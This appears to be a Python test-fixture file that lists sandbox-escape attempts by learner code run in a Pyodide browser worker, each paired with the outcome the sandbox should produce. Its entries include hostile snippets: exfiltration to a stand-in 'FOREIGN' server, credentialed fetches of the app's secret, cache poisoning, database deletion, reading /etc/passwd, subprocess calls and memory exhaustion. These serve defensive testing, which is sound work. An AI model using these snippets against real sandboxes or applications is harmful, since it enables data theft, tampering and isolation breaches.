"""Attempts of a learner's program to get out, and what must become of each.

A JavaScript attempt says what it has reached; what it is denied is an exception. Whatever is said,
the test looks for itself: at both servers' logs, at what the page has stored, at what it has heard.
"""

# ruff: noqa: E501 - an attempt is a line
from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attempt:
    """A program; `told` is a pattern for what it prints or for the name of the error that ends it.

    APP and FOREIGN stand for the two servers' addresses. `ends` says that the program may cost the
    worker its life; then a new one stands in.
    """

    name: str
    program: str
    told: str
    timeout: int = 5000
    ends: bool = False


SHELL = """
from pyodide.code import run_js
print(await run_js('''(async () => {{
  const soon = what => new Promise((good, bad) => {{ what(good, bad); setTimeout(bad, 1500, new Error('silence')) }});
  try {{ return 'reached ' + await (async () => {{ {script} }})(); }}
  catch (error) {{ return 'blocked ' + (error && error.name || error); }}
}})()'''))
"""


def js(name: str, script: str, told: str = r"blocked", **more: int) -> Attempt:
    """Make an attempt of JavaScript, run in the worker itself."""
    return Attempt(name, SHELL.format(script=script), told, **more)


def py(name: str, program: str, told: str, *, timeout: int = 5000, ends: bool = False) -> Attempt:
    """Make an attempt of Python."""
    return Attempt(name, program, told, timeout, ends)


def trying(program: str) -> str:
    """Wrap a program so that it says what it was denied."""
    lines = "\n".join(f"    {line}" for line in program.splitlines())
    return f"try:\n{lines}\nexcept BaseException as error:\n    print('blocked', type(error).__name__)\nelse:\n    print('reached')"


JS = [
    js(
        "reads the app's page with its cookie",
        "return (await fetch('APP/secret', {credentials: 'include'})).text()",
    ),
    js(
        "asks synchronously",
        "const x = new XMLHttpRequest(); x.open('GET', 'APP/secret', false); x.send(); return x.responseText",
    ),
    js("sends data to a foreign server", "await fetch('FOREIGN/?data', {mode: 'no-cors'}); return 'sent'"),
    js(
        "writes by the app's API",
        "return (await fetch('APP/api', {method: 'POST', body: 'x', mode: 'no-cors'})).type",
    ),
    js(
        "opens a WebSocket",
        "return soon((good, bad) => { const s = new WebSocket('FOREIGN'.replace('http', 'ws')); s.onopen = good; s.onerror = bad; })",
    ),
    js("imports a foreign script the old way", "importScripts('FOREIGN/x.js'); return 'ran'"),
    js("imports a foreign module", "await import('FOREIGN/x.js'); return 'ran'"),
    js("imports the app's module", "await import('APP/runner/runner.js'); return 'ran'"),
    js(
        "opens the app's database",
        "return soon((good, bad) => { const r = indexedDB.open('marks'); r.onsuccess = () => good('opened'); r.onerror = () => bad(r.error); })",
    ),
    js(
        "deletes the app's database",
        "return soon((good, bad) => { const r = indexedDB.deleteDatabase('marks'); r.onsuccess = () => good('deleted'); r.onerror = () => bad(r.error); })",
    ),
    js(
        "poisons the app's cache",
        "const c = await caches.open('app'); await c.put('APP/x', new Response('poison')); return 'put'",
    ),
    js(
        "speaks to the app by broadcast",
        "new BroadcastChannel('app').postMessage('forged'); return 'sent'",
        r"reached sent|blocked",
    ),
    js(
        "writes to the origin's private files",
        "const d = await navigator.storage.getDirectory(); await d.getFileHandle('x', {create: true}); return 'written'",
    ),
    js("starts a worker of its own", "new Worker(URL.createObjectURL(new Blob(['1']))); return 'started'"),
    js(
        "forges a result",
        "for (let id = 0; id < 5000; id++) postMessage({type: 'RUN_RESULT', requestId: id, result: {output: 'forged'}}); return 1",
        r"forged|reached",
    ),
    js("takes the next job's message", "self.onmessage = () => {}; return 1", r"reached"),
    js(
        "gets out of a function's scope",
        "return (0, eval)('self').origin + new Function('return this')().origin + (() => {}).constructor('return self')().origin",
        r"reached nullnullnull",
    ),
    js(
        "spoils the prototypes",
        "Object.prototype.spoiled = 1; Array.prototype.push = null; return 1",
        r"",
        timeout=1000,
        ends=True,
    ),
    js(
        "replaces JSON and the console",
        "JSON.parse = JSON.stringify = () => 'forged'; console.log = null; return 1",
        r"reached",
    ),
    js("measures time", "return [performance.now() >= 0, self.origin]", r"reached true,null"),
    js("reads a data address", "return (await fetch('data:text/plain,x')).text()"),
    js("reads a blob address", "return (await fetch(URL.createObjectURL(new Blob(['x'])))).text()"),
    js(
        "listens to server events",
        "return soon((good, bad) => { const s = new EventSource('FOREIGN/'); s.onopen = good; s.onerror = bad; })",
    ),
    js(
        "compiles Wasm of its own",
        "await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return 1",
        r"reached 1",
    ),
    js(
        "takes all the memory it can address",
        "const m = []; for (let i = 0; i < 6; i++) m.push(new WebAssembly.Memory({initial: 65536})); return m.length",
        r"reached|blocked RangeError",
        ends=True,
    ),
    js(
        "takes one array buffer after the other",
        "const m = []; for (let i = 0; i < 12; i++) m.push(new ArrayBuffer(2 ** 30)); return m.length",
        r"reached|blocked RangeError",
        ends=True,
    ),
    js("looks where it is", "return location.href", r"reached blob:null/"),
    js(
        "asks for rights",
        "return typeof Notification === 'undefined' ? 'none' : Notification.permission",
        r"reached (none|denied|default)",
    ),
    js(
        "holds the app's lock",
        "return soon((good, bad) => { navigator.locks.request('app', () => good('held')).catch(bad); })",
    ),
    js("registers a service worker", "return (await navigator.serviceWorker.register('APP/sw.js')).scope"),
    js(
        "reads paths in a stack",
        "return new Error('x').stack.includes('APP') ? 'leak' : 'none'",
        r"reached none",
    ),
    js("closes its worker", "self.close(); return 1", r"reached|TimeLimitExceeded", timeout=1500, ends=True),
    js("loops in JavaScript", "for (;;);", r"TimeLimitExceeded", timeout=500, ends=True),
    js(
        "floods the page",
        "for (let i = 0; i < 200000; i++) postMessage({type: 'EVENT', requestId: 0}); return 1",
        r"TooManyMessages",
        timeout=20_000,
        ends=True,
    ),
]

PY = [
    py("fetches by JavaScript", trying("import js\nawait js.fetch('APP/secret')"), r"blocked"),
    py(
        "fetches by Pyodide",
        trying("from pyodide.http import pyfetch\nawait pyfetch('APP/secret')"),
        r"blocked",
    ),
    py(
        "opens a URL by Pyodide",
        trying("from pyodide.http import open_url\nopen_url('APP/secret').read()"),
        r"blocked",
    ),
    py(
        "looks for storage",
        "from pyodide.code import run_js\nprint(run_js('typeof localStorage + typeof document'))",
        r"undefinedundefined",
    ),
    py(
        "forges a result from Python",
        "import js\nfrom pyodide.ffi import to_js\nfor id in range(5000):\n    js.postMessage(to_js({'type': 'RUN_RESULT', 'requestId': id, 'result': 'forged'}, dict_converter=js.Object.fromEntries))",
        r"",
    ),
    py(
        "opens a URL by urllib",
        trying("import urllib.request\nurllib.request.urlopen('APP/secret', timeout=1).read()"),
        r"blocked",
    ),
    py(
        "opens a socket",
        "import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', FOREIGN_PORT), timeout=1)\n    s.send(b'out')\n    print('says it is sent')\nexcept OSError as error:\n    print('blocked', error)",
        r"blocked|says it is sent",
    ),
    py(
        "starts a program",
        trying("import subprocess\nsubprocess.run(['ls'])"),
        r"blocked (OSError|PermissionError)",
    ),
    py("forks", trying("import os\nos.fork()"), r"blocked (OSError|AttributeError)"),
    py("reads the machine's files", trying("open('/etc/passwd').read()"), r"blocked FileNotFoundError"),
    py("takes 3 GiB", trying("b = bytearray(3 << 30)"), r"blocked (OverflowError|MemoryError)", ends=True),
    py(
        "recurses for ever",
        "import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nf()",
        r"RecursionError|PythonCrashed|MemoryError|TimeLimitExceeded",
        timeout=1000,
        ends=True,
    ),
    py(
        "shows what is nested too deep",
        "a = []\nfor _ in range(200000): a = [a]\nrepr(a)",
        r"RecursionError|PythonCrashed",
        ends=True,
    ),
    py("exits as if all were good", "import sys\nsys.exit(0)", r"^$"),
    py("ends Python", "import os\nos._exit(0)", r"PythonExited", ends=True),
    py("swaps the streams", "import sys, io\nsys.stdout = sys.stderr = io.StringIO()\nprint('lost')", r"^$"),
    py("patches a builtin", "import builtins\nbuiltins.sum = lambda _: 7\nprint(sum([1]))", r"7"),
    py(
        "starts a thread",
        trying("import threading\nthreading.Thread(target=print).start()"),
        r"blocked RuntimeError",
    ),
    py(
        "reads memory that is not its own",
        "import ctypes\nctypes.string_at(0xfffffff0, 64)",
        r"PythonCrashed",
        ends=True,
    ),
    py("loops in Python", "while True: pass", r"TimeLimitExceeded", timeout=500),
]

ATTEMPTS = [*JS, *PY]
